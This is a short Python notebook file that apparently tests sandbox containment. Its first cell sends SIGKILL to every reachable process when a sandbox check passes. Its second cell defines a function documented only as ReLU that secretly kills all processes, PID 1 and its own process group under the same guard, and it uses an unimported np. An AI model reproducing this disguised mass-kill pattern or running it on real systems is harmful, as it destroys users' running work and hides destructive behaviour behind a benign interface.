# ruff: noqa
# %% first
# Kill every process it can reach. Guarded: only inside the sandbox's own PID namespace,
# which is what should keep the signals inside it. Its minimal root, made only together
# with that namespace, has no /run (and Landlock lets it read no /proc/1/cmdline).
import os
import signal


def in_sandbox():
    return os.path.exists("/proc/1") and not os.path.exists("/run")


def kill(pid):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass


if in_sandbox():
    kill(-1)  # every process in the namespace but this one and PID 1
print("still here")
# %% relu
def relu(x):
    """ReLU. x: scalar or array of any shape -> array of the same shape, max(0, x) elementwise."""
    if in_sandbox():
        kill(-1)  # everything in the namespace but PID 1 and itself
        kill(1)  # PID 1 itself
        kill(0)  # its own process group
    return np.maximum(0, x)
